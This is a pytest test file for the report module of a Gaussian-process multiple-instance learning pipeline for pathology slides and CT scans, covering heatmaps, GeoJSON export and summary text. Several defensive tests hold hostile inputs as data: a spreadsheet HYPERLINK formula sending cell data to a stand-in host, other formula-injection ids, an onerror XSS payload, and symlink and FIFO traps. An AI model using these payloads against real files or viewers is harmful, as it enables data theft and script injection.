"""Report figures: probabilities and VWSGP evidences are drawn on their own scales."""

import numpy as np
import pytest

from tasks import report


def test_instance_scores_say_whether_they_are_probabilities_or_evidences():
    proba = {"instances/proba": np.array([0.2, 0.9]), "instances/std": np.zeros(2)}
    evidence = {"instances/evidence": np.array([-3.0, 5.0]), "instances/std": np.zeros(2)}
    assert report.instance_scores(proba)[1] == "probability"
    scores, kind = report.instance_scores(evidence)
    assert kind == "evidence" and scores.tolist() == [-3.0, 5.0]


def test_probabilities_use_the_unit_scale_and_evidences_a_scale_symmetric_about_zero():
    assert report._colour_scale(np.array([0.1, 0.3]), "probability") == dict(cmap="inferno", vmin=0.0, vmax=1.0)
    scale = report._colour_scale(np.array([-3.0, 5.0, 0.5]), "evidence")
    assert (scale["vmin"], scale["vmax"]) == (-5.0, 5.0)
    assert report._colour_scale(np.zeros(3), "evidence")["vmax"] == 1.0  # all-zero evidence still draws


@pytest.mark.parametrize("kind", ["probability", "evidence"])
def test_heatmap_and_slice_plot_are_written_for_both_kinds(tmp_path, kind):
    rng = np.random.default_rng(0)
    coords = np.array([(r, c) for r in range(4) for c in range(5)])
    scores = rng.uniform(size=20) if kind == "probability" else rng.normal(scale=4.0, size=20)
    xy, side = report.level0_tiles(coords, "tile_row,tile_col")
    heatmap = report.plot_wsi_heatmap(xy, side, scores, tmp_path / "h.png", kind=kind)
    slices = report.plot_ct_slices(np.arange(20), scores, np.full(20, 0.1), tmp_path / "s.png", kind=kind,
                                   instance_labels=np.zeros(20, dtype=int))
    assert heatmap.stat().st_size > 0 and slices.stat().st_size > 0


def test_h5_level0_coordinates_give_a_thumbnail_sized_heatmap_with_each_tile_in_place():
    """CLAM/TRIDENT coords are level-0 pixels (not tile indices): the canvas stays at thumbnail
    size however large they are, and each tile lands where its pixels are."""
    step = 512
    rows, cols = np.meshgrid(np.arange(40, 60), np.arange(70, 90), indexing="ij")
    xy = np.stack([cols.ravel() * step, rows.ravel() * step], axis=1)  # up to x = 45 568, y = 30 208
    scores = np.linspace(0, 1, len(xy))
    tiles, side = report.level0_tiles(xy, "x,y (level-0 pixels, as in the .h5)")
    assert side == step
    canvas, downsample = report.heatmap_canvas(tiles, side, scores, max_side=512)
    assert max(canvas.shape) <= 512 and canvas.nbytes <= 512 * 512 * 8
    for i in (0, 137, len(xy) - 1):
        y, x = int((xy[i, 1] + side / 2) / downsample), int((xy[i, 0] + side / 2) / downsample)
        assert canvas[y, x] == scores[i]
    assert np.isnan(canvas[: int(40 * step / downsample) - 1]).all()  # nothing above the tissue
    slide_tiles = np.array([[2, 3, 768, 512]])  # (row, col, x, y) of a slide store
    np.testing.assert_array_equal(report.level0_tiles(slide_tiles, "tile_row,tile_col,x,y (...)")[0], [[768, 512]])


def test_a_bag_of_one_tile_or_of_scattered_tiles_gets_the_cohorts_patch_size():
    """A bag's own grid step is no patch size when it has one tile (none) or sparse tiles (a
    multiple): the cohort's smallest step is, for its GeoJSON squares and heatmap."""
    meaning = "x,y (table columns x, y)"
    coords = np.array([[0, 0], [256, 0], [256, 256],  # a bag of adjacent 256-px patches
                       [1000, 2000],  # a bag of one tile
                       [0, 0], [512, 768]])  # a bag of scattered ones
    offsets = np.array([0, 3, 4, 6])
    side = report.cohort_tile_side(coords, offsets, meaning)
    assert side == 256
    assert report.level0_tiles(coords[3:4], meaning)[1] == 1.0 and report.level0_tiles(coords[3:4], meaning, side)[1] == 256
    assert report.level0_tiles(coords[4:6], meaning)[1] == 512 and report.level0_tiles(coords[4:6], meaning, side)[1] == 256
    assert report.cohort_tile_side(coords[3:4], np.array([0, 1]), meaning) is None
    assert report.cohort_tile_side(coords, offsets, "tile_row,tile_col") is None


def test_the_ct_strip_shows_the_most_positive_slice_with_its_neighbours_and_spreads_the_rest(tmp_path):
    scores = np.zeros(40)
    scores[17] = 0.9
    chosen = report.strip_slices(scores, n=6)
    assert {16, 17, 18} <= set(chosen.tolist()) and chosen[0] == 0 and chosen[-1] == 39 and len(chosen) <= 9
    windows = np.random.default_rng(0).uniform(size=(len(chosen), 16, 16, 3))
    path = report.plot_ct_strip(windows, chosen, scores[chosen], np.full(len(chosen), 0.1), tmp_path / "strip.png",
                                sop_uids=[f"1.2.3.{i}" for i in chosen])
    assert path.stat().st_size > 0


def test_the_report_says_what_the_fit_chose_and_leaves_out_what_it_did_not():
    """``choices_text``: a degenerate variance of the choice is named so; a fixed rule is not
    called chosen; a model that chose nothing gets no sentence."""
    choices = {"kernel_variance": 4.0, "length_scale": 12.884, "held_out_auc_by_variance": {"1": 0.81, "4": 0.862, "16": None},
               "bag_rule": "mean", "bag_rule_chosen": True}
    text = report.choices_text(choices, chosen_sweeps=25)
    assert text == ("Fitted with kernel variance 4, length scale 12.9; chosen by held-out bag AUC on splits of the training bags "
                    "(per variance 1: 0.810, 4: 0.862, 16: degenerate); 25 sweeps, chosen with it; bag rule "
                    "`mean` (`bag_rule=\"auto\"`: `top_fraction` unless another rule is clearly better there).")
    assert report.choices_text({"kernel_variance": 1.0, "bag_rule": "max", "bag_rule_chosen": False}) == \
        "Fitted with kernel variance 1; bag rule `max`."
    assert report.choices_text({}) == "" and report.choices_text({"members": [{}, {}]}) == ""
    assert report.choices_text({"kernel_variance": 2.5, "shortest_length_scales": {"7": 0.412, "0": 3.0}}) == \
        "Fitted with kernel variance 2.5; one length scale per feature, the shortest (the features it weighs most) at columns 7 (0.412), 0 (3)."
    assert report.choices_text({"kernel_variance": 1.0, "H": 1e12, "held_out_auc_by_H": {"100": 0.9, "1e+12": 0.925}}) == \
        "Fitted with kernel variance 1; bag-likelihood odds H = 1e+12 (`H=\"auto\"`, chosen with the kernel: 100: 0.900, 1e+12: 0.925)."
    assert report.choices_text({"H": 100.0}) == "Fitted with bag-likelihood odds H = 100."
    assert report.choices_text({"kernel_variance": 2.0, "kernel_bias": 2.0, "held_out_auc_by_kernel_bias": {"0": 0.8, "1": 0.85}}) == \
        "Fitted with kernel variance 2, plus a constant kernel b = 2; the constant kernel after trying b = v near the chosen variance (best per b/v 0: 0.800, 1: 0.850)."
    assert report.choices_text({"kernel_variance": 2.0, "held_out_auc_by_kernel_bias": {"0": 0.9, "1": 0.85}}) == \
        "Fitted with kernel variance 2; no constant kernel after trying b = v near the chosen variance (best per b/v 0: 0.900, 1: 0.850)."
    by_weighting = {"none": 0.7, "sharpened": 0.95, "proportional": 0.9}
    assert report.choices_text({"kernel_variance": 4.0, "shortest_length_scales": {"3": 0.9}, "held_out_auc_by_relevance": by_weighting}) == \
        ("Fitted with kernel variance 4; one length scale per feature, the shortest (the features it weighs most) at columns 3 (0.9); "
         "per-feature length scales after trying features weighed by their bag-label evidence near the chosen variance "
         "(best per weighting none: 0.700, sharpened: 0.950, proportional: 0.900).")
    assert report.choices_text({"kernel_variance": 4.0, "held_out_auc_by_relevance": {**by_weighting, "none": 0.96}}).endswith(
        "; one length scale after trying features weighed by their bag-label evidence near the chosen variance "
        "(best per weighting none: 0.960, sharpened: 0.950, proportional: 0.900).")
    members = {"members": [{"kernel_variance": 4.0, "bag_rule": "max", "H": 100.0}, {"kernel_variance": 16.0, "bag_rule": "max", "H": 1e12}]}
    assert report.choices_text(members) == ("Its 2 member GPs chose from their training bags: kernel variances 4, 16; "
                                            "bag rules max, max; bag-likelihood odds H 100, 1e+12.")


def test_model_choices_reads_what_each_fit_has():
    from mil_core import GVGPMIL, RBF, VGPMIL, VGPMILPR, VWSGP
    from tests.conftest import make_toy_bags

    X, bags, y, _ = make_toy_bags(20)
    vwsgp = report.model_choices(VWSGP(n_inducing=8, max_iter=10, random_state=0).fit(X, bags, y))
    assert "bag_rule" not in vwsgp  # its own bag score: σ of the summed evidence
    assert len(vwsgp["held_out_auc_by_variance"]) == 4 and f"{vwsgp['kernel_variance']:g}" in vwsgp["held_out_auc_by_variance"]
    fixed = report.model_choices(VGPMILPR(n_inducing=8, kernel=RBF(2.0), bag_rule="max", max_iter=5, random_state=0).fit(X, bags, y))
    assert fixed == {"kernel_variance": 2.0, "length_scale": float(np.sqrt(X.shape[1])), "bag_rule": "max", "bag_rule_chosen": False}
    vgpmil = report.model_choices(VGPMIL(n_inducing=8, max_iter=10, random_state=0).fit(X, bags, y))
    assert vgpmil["H"] in (100.0, 1e12) and set(vgpmil["held_out_auc_by_H"]) == {"100", "1e+12"}
    assert vgpmil["held_out_auc_by_H"][f"{vgpmil['H']:g}"] == max(vgpmil["held_out_auc_by_variance"].values())
    assert "held_out_auc_by_H" not in report.model_choices(VGPMIL(n_inducing=8, H=1e12, max_iter=10, random_state=0).fit(X, bags, y))
    assert set(vgpmil["held_out_auc_by_kernel_bias"]) == {"0", "1"}  # the second stage: b = v at the chosen variance
    assert vgpmil.get("kernel_bias", 0.0) in (0.0, vgpmil["kernel_variance"])
    gv = report.model_choices(GVGPMIL(n_inducing=8, max_iter=10, random_state=0).fit(X, bags, y))
    assert set(gv["held_out_auc_by_kernel_bias"]) == {"0", "1"} and "held_out_auc_by_H" not in gv
    if "length_scale" in gv:  # the isotropic kernel won: b as the constant kernel's AUCs say
        assert gv.get("kernel_bias", 0.0) == (gv["kernel_variance"] if gv["held_out_auc_by_kernel_bias"]["1"]
                                              > gv["held_out_auc_by_kernel_bias"]["0"] else 0.0)
    for choices in (vgpmil, gv):  # the second stage also tried the relevance length scales; one of them was kept
        by_relevance = choices["held_out_auc_by_relevance"]
        assert set(by_relevance) == {"none", "sharpened", "proportional"}
        weighed = max(by_relevance["sharpened"], by_relevance["proportional"])
        if "shortest_length_scales" in choices:  # ties go to fewer sweeps
            assert weighed >= by_relevance["none"]
        else:
            assert by_relevance["none"] >= weighed
    ard = report.model_choices(VGPMILPR(n_inducing=8, kernel=RBF(2.0, (3.0, 0.5)), max_iter=5, random_state=0).fit(X, bags, y))
    assert ard["shortest_length_scales"] == {"1": 0.5, "0": 3.0} and "length_scale" not in ard


def test_clam_grids_of_two_tissue_pieces_a_few_pixels_apart_keep_the_patch_size():
    """CLAM starts each tissue piece's patch grid at the piece's own corner, so two pieces' grids
    are a few pixels apart; the smallest spacing of any coordinates made every GeoJSON square and
    heatmap tile of the cohort 7 px wide."""
    meaning = "x,y (level-0 pixels, as in the .h5)"
    rows, cols = np.meshgrid(np.arange(6), np.arange(5), indexing="ij")
    piece = np.stack([cols.ravel(), rows.ravel()], axis=1) * 512
    bag = np.concatenate([piece, piece + [3 + 5 * 512, 7]])  # the second piece beside the first, 3 px / 7 px off its grid
    lone = np.array([[4000, 4000]])
    coords, offsets = np.concatenate([bag, lone]), np.array([0, len(bag), len(bag) + 1])
    assert report.cohort_tile_side(coords, offsets, meaning) == 512
    assert report.level0_tiles(bag, meaning)[1] == 512
    canvas, _ = report.heatmap_canvas(*report.level0_tiles(bag, meaning), np.ones(len(bag)), max_side=256)
    assert np.isfinite(canvas).mean() > 0.9  # the two pieces cover their extent: no scattered dots

    rng = np.random.default_rng(0)  # sparse tiles: gaps of 1, 2, 3 … patches, the most common not always 1
    sparse = [rng.choice(400, size=12, replace=False) for _ in range(10)]
    coords = np.concatenate([np.stack([g % 20, g // 20], axis=1) * 512 for g in sparse])
    assert report.cohort_tile_side(coords, np.arange(0, 121, 12), meaning) == 512
    assert report.cohort_tile_side(np.array([[0, 0], [1024, 0], [2560, 0]]), np.array([0, 3]), meaning) == 512  # 2 and 3 patches


def test_a_fractional_footprint_and_slides_of_two_magnifications_keep_their_own_tile_sides():
    """target_mpp 0.5 on a 0.499 µm/px scanner puts corners 256 and 257 px apart alternately: the
    cohort's side came out as 1 px (a grid of their common divisor) and the heatmap was empty; a
    40x slide beside 20x ones was drawn with the 20x side."""
    meaning = "tile_row,tile_col,x,y (x, y: level-0 pixels of the tile's top-left corner)"
    rows, cols = np.meshgrid(np.arange(4), np.arange(6), indexing="ij")
    fractional = np.stack([rows.ravel(), cols.ravel(), np.floor(cols.ravel() * 256.5), np.floor(rows.ravel() * 256.5)], axis=1)
    double = np.stack([rows.ravel(), cols.ravel(), cols.ravel() * 512, rows.ravel() * 512], axis=1)
    lone = np.array([[0, 0, 0, 0]])
    coords, offsets = np.concatenate([fractional, double, fractional, lone]), np.array([0, 24, 48, 72, 73])
    assert report.cohort_tile_side(coords, offsets, meaning) == pytest.approx(256.5, abs=0.2)
    assert report.level0_tiles(fractional, meaning, 256.5)[1] == pytest.approx(256.5, abs=0.2)
    assert report.level0_tiles(double, meaning, 256.5)[1] == 512  # its own, not the cohort's
    assert report.level0_tiles(lone, meaning, 256.5)[1] == 256.5  # one tile: the cohort's
    table = np.stack([np.floor(cols.ravel() * 256.5), np.floor(rows.ravel() * 256.5)], axis=1)  # the same corners as x, y columns
    assert report.cohort_tile_side(table, np.array([0, 24]), "x,y (table columns x, y)") == 257


def test_geojson_is_strict_json_without_the_values_a_model_does_not_give_and_names_its_bag(tmp_path):
    """AbSMIL's std is NaN: the GeoJSON held a bare ``NaN``, which JSON parsers (QuPath's, browsers')
    reject; nor did a file say which bag it was (its name is a filesystem-safe form of the id)."""
    import json

    text = report.tile_geojson(np.array([[0, 0], [256, 0]]), np.float64(256.0), np.array([0.2, 0.9]),
                               np.array([np.nan, 0.1]), bag_id='ünï|ß "007"')
    path = report.write_geojson(text, tmp_path / "g.geojson")

    def no_constants(name):
        raise AssertionError(f"{name} in the GeoJSON")

    read = json.loads(path.read_text(), parse_constant=no_constants)
    assert read == {"type": "FeatureCollection", "bag_id": 'ünï|ß "007"', "features": [
        {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [[[x, 0.0], [x + 256, 0.0], [x + 256, 256.0],
                                                                            [x, 256.0], [x, 0.0]]]},
         "properties": {"objectType": "tile", "isLocked": True, "classification": {"name": "gpmil tile"},
                        "measurements": measurements}}
        for x, measurements in ((0.0, {"probability": 0.2}), (256.0, {"probability": 0.9, "std": 0.1}))]}
    scores = np.random.default_rng(0).uniform(size=50)  # values written exactly (Python's shortest repr, as json's)
    written = json.loads(report.tile_geojson(np.zeros((50, 2)), 1.0, scores, scores / 3, kind="evidence"))
    assert [f["properties"]["measurements"] for f in written["features"]] == [
        {"evidence": a, "std": b} for a, b in zip(scores.tolist(), (scores / 3).tolist())]
    with pytest.raises(ValueError, match="finite"):
        report.tile_geojson(np.array([[np.nan, 0.0]]), 256.0, np.array([0.5]), np.array([0.1]))


def test_a_bag_not_predicted_is_neither_positive_nor_negative_and_is_not_evaluated():
    """A bag whose features gave NaN had ``predicted_label`` 0 and was counted as a negative; when
    it was a class's only labelled bag the report crashed instead of saying it cannot evaluate."""
    import pandas as pd

    table = pd.DataFrame({"bag_id": ["a", "b", "c", "d"], "label": [1, 0, 0, -1], "original_label": ["", "", "", ""],
                          "probability": [np.nan, 0.2, 0.7, 0.9], "std": [np.nan, 0.1, 0.2, 0.3]})
    assert report.predicted_labels(table["probability"], 0.5).tolist() == [pd.NA, 0, 1, 1]
    assert not report.can_evaluate(table)
    with pytest.raises(ValueError, match="both classes"):
        report.evaluate(table)
    text = report.summary_text(table)
    assert text.splitlines()[0] == "3 bags predicted: 2 positive, 1 negative (threshold 0.5); 1 not predicted"
    assert " a " not in text.replace("(", " ")  # the bag not predicted is in neither list
    assert report.can_evaluate(table.assign(label=[1, 0, 1, -1]))
    no_std = report.summary_text(table.assign(std=np.nan))
    assert "least certain" not in no_std  # AbSMIL gives none


def test_csv_tables_show_a_formula_like_id_as_text_and_parquet_keeps_it_exact(tmp_path):
    """A slide named ``=HYPERLINK(…)`` (a shared folder's file names are anyone's) became a live
    formula when ``bag_predictions.csv`` was opened in a spreadsheet; numbers stay numbers."""
    import csv

    import pandas as pd

    ids = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", "+cmd", "-2+3", "\t=1+1", "-0.5", "+3", "slide-07"]
    table = pd.DataFrame({"bag_id": ids, "probability": np.linspace(0, 1, len(ids)), "label": ["-1"] * len(ids)})
    csv_path, parquet_path = report.write_tables(table, tmp_path)
    with open(csv_path, newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["bag_id"] for r in rows] == [
        """'=HYPERLINK("http://x.example/?"&A1,"open")""", "'@SUM(A1:A9)", "'+cmd", "'-2+3", "'\t=1+1", "-0.5", "+3", "slide-07"]
    assert [r["label"] for r in rows] == ["-1"] * len(ids)
    assert pd.read_parquet(parquet_path)["bag_id"].tolist() == ids
    assert table["bag_id"].tolist() == ids  # the caller's table is left as it was


def test_markdown_cells_keep_an_id_with_a_pipe_or_a_newline_in_one_column():
    import pandas as pd

    text = report.markdown_table(pd.DataFrame({"bag_id": ["pipe|id", "two\nlines", "<img src=x onerror=alert(1)>"],
                                               "p": [0.5, 0.25, 1.0]}))
    rows = text.splitlines()
    assert rows[2] == "| pipe\\|id | 0.500 |" and rows[3] == "| two lines | 0.250 |"
    assert rows[4] == "| &lt;img src=x onerror=alert(1)&gt; | 1.000 |"  # shown as text, not run by a Markdown viewer


def test_a_threshold_that_puts_every_labelled_bag_on_one_side_is_said_in_the_warnings():
    """A probe's 200-slide cohort: bag AUC 1.000, every probability 0.08–0.28, F1 0 and nothing said."""
    from tasks.diagnostics import one_sided_predictions

    p, y = np.array([0.08, 0.09, 0.15, 0.28, np.nan, 0.7]), np.array([0, 0, 1, 1, 1, -1])
    message = one_sided_predictions(p, y, 0.5)  # the unlabelled 0.7 and the bag not predicted count for nothing
    assert message.startswith("every labelled bag is predicted negative (below the threshold 0.5)")
    assert "[0.08, 0.28]" in message and "positive bags' median 0.215, negative bags' median 0.085" in message
    assert one_sided_predictions(p, y, 0.1) is None  # both sides: accuracy and F1 mean something
    assert one_sided_predictions(p, y, 0.05).startswith("every labelled bag is predicted positive (at or above")
    assert one_sided_predictions(p, np.array([0, 0, 0, 0, 0, 1]), 0.5) is None  # the 0.7 bag labelled positive: both sides


def test_a_figure_replaces_a_link_planted_at_its_name_instead_of_writing_through_it(tmp_path):
    """Figures go to shared folders under names anyone can predict (``models/<key>/objective.png``):
    a link planted there is replaced by the figure, and the file it points to is left as it was."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "objective.png").symlink_to(victim)
    path = report.plot_objective(np.array([-3.0, -2.0, -1.5]), tmp_path / "model" / "objective.png")
    assert victim.read_text() == "keep" and not path.is_symlink()
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_a_model_folders_figure_is_read_only_from_a_regular_file(tmp_path):
    """The report copies ``models/<key>/objective.png``: a link there would copy any file the run
    can read into the shared report, and a FIFO blocked the report (and held its lease) for good."""
    import logging
    import os

    from tasks.prefect_tasks import _model_figure

    logger, said = logging.Logger("report-test"), []
    logger.addHandler(type("Said", (logging.Handler,), {"emit": lambda self, record: said.append(record.getMessage())})())
    (tmp_path / "secret.txt").write_text("PRIVATE KEY")
    (tmp_path / "link.png").symlink_to(tmp_path / "secret.txt")
    os.mkfifo(tmp_path / "fifo.png")
    (tmp_path / "plain.png").write_bytes(b"\x89PNG")
    assert _model_figure(tmp_path / "link.png", logger) is None
    assert _model_figure(tmp_path / "fifo.png", logger) is None
    assert "not a link" in said[0] and "not a regular file" in said[1]
    assert _model_figure(tmp_path / "plain.png", logger) == b"\x89PNG"
    assert _model_figure(tmp_path / "absent.png", logger) is None
